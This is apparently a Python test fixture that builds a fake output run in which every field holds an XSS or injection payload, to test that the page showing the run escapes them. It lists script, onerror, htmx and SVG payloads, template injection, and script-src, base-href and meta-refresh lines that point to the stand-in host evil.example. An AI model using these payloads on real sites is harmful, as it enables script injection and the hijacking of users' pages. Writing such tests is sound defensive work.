"""A run whose every word is an attack on the page that shows it."""

import hashlib
import json
from collections.abc import Sequence
from pathlib import Path
from typing import Any

from bookwright.service.directory import FORMAT

ATTACKS = (
    "<script>alert(1)</script>",
    "</textarea><script>alert(1)</script>",
    "</title></main></body><script src=//evil.example/x.js></script>",
    '"><img src=x onerror=alert(1)>',
    "' onmouseover='alert(1)' x='",
    "<svg/onload=alert(1)>",
    "<iframe srcdoc='<script>alert(1)</script>'>",
    '" hx-on:load="alert(1)" hx-get="//evil.example" hx-trigger="load',
    "<div hx-get=//evil.example hx-trigger=load hx-on::load=alert(1)></div>",
    "javascript:alert(1)",
    "{{ 7 * 7 }}{% for x in range(9) %}{{ x }}{% endfor %}",
    "<!-- --><style>*{display:none}</style>]]>",
    "&lt;script&gt;alert(1)&lt;/script&gt; &#60;script&#62;",
    "\u202e\u2066<scr\u200bipt>alert(1)</scr\u200bipt>\x00\x1b",
    "<math><mtext><table><mglyph><style><img src onerror=alert(1)>",
    "<base href=//evil.example><meta http-equiv=refresh content=0;url=//evil.example>",
)


def hostile_run(run: Path, attacks: Sequence[str] = ATTACKS) -> Path:
    """Writes a run with a record for each attack, which stands in the document, its name and headings, in question, answer, names of makers
    and judges, reasons and lineage."""
    (run / "documents").mkdir(parents=True)
    text = "\n".join(f"Before. {attack} After." for attack in attacks)
    name = hashlib.sha256(text.encode()).hexdigest()
    (run / "documents" / f"{name}.txt").write_text(text, encoding="utf-8", newline="")
    records = [_record(f"hostile-{place} {attack}", attack, text, name) for place, attack in enumerate(attacks)]
    for file, found in (("records.jsonl", records), ("rejects.jsonl", [])):
        (run / file).write_text("".join(json.dumps(row) + "\n" for row in found), encoding="utf-8")
    documents = [{"sha256": name, "id": name, "title": attacks[0], "path": attacks[0], "language": "en"}]
    state = {
        "format": FORMAT,
        "kind": "qa",
        "status": "finished",
        "documents": documents,
        "counts": {"records": len(records), "rejects": 0},
    }
    (run / "run.json").write_text(json.dumps(state), encoding="utf-8")
    return run


def _record(record_id: str, attack: str, text: str, document: str) -> dict[str, Any]:
    start = text.index(attack)
    evidence = [{"document_id": document, "start": start, "end": start + len(attack), "quote": attack}]
    claims = [{"text": f"One {attack} two.", "evidence": [0], "connective": False}]
    draft = {"question": attack, "kind": "fact", "claims": claims, "evidence": evidence, "unlocated": []}
    fault = {"kind": "unclear", "quote": attack, "reason": attack, "remedy": attack}
    return {
        "id": record_id,
        "kind": attack,
        "question": f"What {attack}?",
        "answer": f"One {attack} two.",
        "extra": {attack: [attack]},
        "claims": claims,
        "evidence": evidence,
        "verdict": {"decision": "accept", "scores": {attack: 5}, "reasons": [attack], "by": attack, "text_sha256": "0"},
        "text_sha256": "0",
        "made_by": attack,
        "prompts": {},
        "lineage": [{"draft": draft, "operator": attack, "by": attack, "parent": None, "kept": False, "why": attack}],
        "critiques": [{"draft_sha256": "0", "by": attack, "faults": [fault]}],
        "source": {"title": attack, "path": attack, "headings": [attack]},
        "language": "en",
        "usage": {},
    }
